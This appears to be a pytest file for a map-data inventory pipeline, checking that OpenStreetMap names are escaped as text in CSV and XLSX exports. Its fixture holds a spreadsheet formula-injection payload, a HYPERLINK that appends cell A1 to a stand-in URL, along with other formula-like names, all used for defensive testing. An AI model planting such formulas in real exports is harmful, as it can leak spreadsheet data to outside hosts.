"""Names from world-editable OSM stay text in every CSV and XLSX the inventory is written to."""

from __future__ import annotations

from dataclasses import replace

import numpy as np
import openpyxl
import pandas as pd
import pytest
from pyproj import Geod

from pipeline.core import schema as S
from pipeline.core.cells import read_csv, write_csv
from pipeline.core.fileio import OutputError
from pipeline.inventory.build import read_inventory, read_previous_labels, write_inventory
from pipeline.inventory.export import export_bytes, export_inventory

HOSTILE = '=HYPERLINK("http://x"&A1,"幼儿园")'
NAMES = [
    HOSTILE,
    "+86 10 6234 5678",
    "-3.5",
    "@SUM(A1)",
    "\t=1",
    "'=already quoted",
    "  两边空格  ",
    "普通名字",
]
GEOD = Geod(ellps="WGS84")


@pytest.fixture(scope="module")
def hostile(demo_inventory):
    """The demo inventory with hostile names on its first assets."""
    assets = demo_inventory.assets.copy()
    for i, name in enumerate(NAMES):
        assets.loc[assets.index[i], S.NAME] = name
    return replace(demo_inventory, assets=assets)


def metres_apart(lon_a, lat_a, lon_b, lat_b) -> np.ndarray:
    return GEOD.inv(np.asarray(lon_a), np.asarray(lat_a), np.asarray(lon_b), np.asarray(lat_b))[2]


def test_xlsx_writes_a_formula_like_name_as_a_string_cell(hostile, tmp_path):
    out = export_inventory(hostile, tmp_path / "x.xlsx")
    book = openpyxl.load_workbook(out)
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found[cell.value] = cell
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
    cell = found[HOSTILE]
    assert cell.data_type == "s" and cell.value == HOSTILE and cell.quotePrefix
    assert found["-3.5"].data_type == "s" and found["-3.5"].quotePrefix


def test_csv_export_round_trip_keeps_text_byte_for_byte_and_places_to_the_metre(hostile, tmp_path):
    first = export_inventory(hostile, tmp_path / "a.csv")
    raw = first.read_text(encoding="utf-8-sig")
    assert "\n'=HYPERLINK" in raw or "\n\"'=HYPERLINK" in raw or ",\"'=HYPERLINK" in raw
    assert ",=HYPERLINK" not in raw and ',"=HYPERLINK' not in raw
    back = read_csv(first, dtype={S.LABEL: str}, keep_default_na=False)
    assert [n.encode() for n in back[S.NAME]] == [str(n).encode() for n in hostile.assets[S.NAME]]
    reps = hostile.assets.geometry.representative_point().to_crs(S.WGS84)
    assert metres_apart(back[S.LON], back[S.LAT], reps.x, reps.y).max() < 1.0
    # export -> import -> export gives the same bytes
    again = write_csv(back, tmp_path / "b.csv")
    assert again.read_bytes() == first.read_bytes()


def test_inventory_csv_is_escaped_and_keep_labels_reads_it_back(hostile, tmp_path):
    folder = write_inventory(hostile, tmp_path / "inv")
    text = (folder / "inventory.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "'-3.5" in text and "'+86" in text
    back = read_csv(folder / "inventory.csv", dtype={S.LABEL: str, S.SOURCE_ID: str}, keep_default_na=False)
    assert back[S.NAME].tolist()[: len(NAMES)] == NAMES
    assert back[S.LON].dtype.kind == "f" and (back[S.LON] > 0).all()  # numbers stay numbers
    previous = read_previous_labels(folder / "inventory.csv")
    assert previous.by_source == dict(zip(hostile.assets[S.SOURCE_ID], hostile.assets[S.LABEL], strict=True))
    assert read_inventory(folder).assets[S.NAME].tolist()[: len(NAMES)] == NAMES  # the GPKG is not escaped


def test_download_bytes_are_escaped_too(hostile):
    data = export_bytes(hostile, "csv").decode("utf-8-sig")
    assert "'=HYPERLINK" in data
    frame = pd.read_csv(pd.io.common.StringIO(data), keep_default_na=False)
    assert HOSTILE not in frame[S.NAME].tolist()


def test_export_to_a_folder_is_refused_clearly(hostile, tmp_path):
    (tmp_path / "x.csv").mkdir()
    with pytest.raises(OutputError, match=r"x\.csv` is a folder"):
        export_inventory(hostile, tmp_path / "x.csv")


def test_labels_that_look_like_formulas_come_back_from_the_csv(hostile, tmp_path):
    assets = hostile.assets.copy()
    assets[S.LABEL] = [f"-{i}" if i % 2 else f"+{i}" for i in range(len(assets))]
    folder = write_inventory(replace(hostile, assets=assets), tmp_path / "inv")
    assert "'-1" in (folder / "inventory.csv").read_text(encoding="utf-8-sig")
    previous = read_previous_labels(folder / "inventory.csv")
    assert sorted(previous.by_source.values()) == sorted(assets[S.LABEL])


def test_an_inventory_an_earlier_version_wrote_is_replaced(demo_inventory, tmp_path):
    """No stamp, but its own three files only: it is the mapper's, and a rebuild replaces it."""
    folder = write_inventory(demo_inventory, tmp_path / "inv")
    (folder / ".mapper-output.json").unlink()
    (folder / "report.json").write_text('{"compound": {}, "main_gate": {}, "old": true}', encoding="utf-8")
    write_inventory(demo_inventory, folder)
    assert "old" not in (folder / "report.json").read_text(encoding="utf-8")
    assert (folder / ".mapper-output.json").is_file()
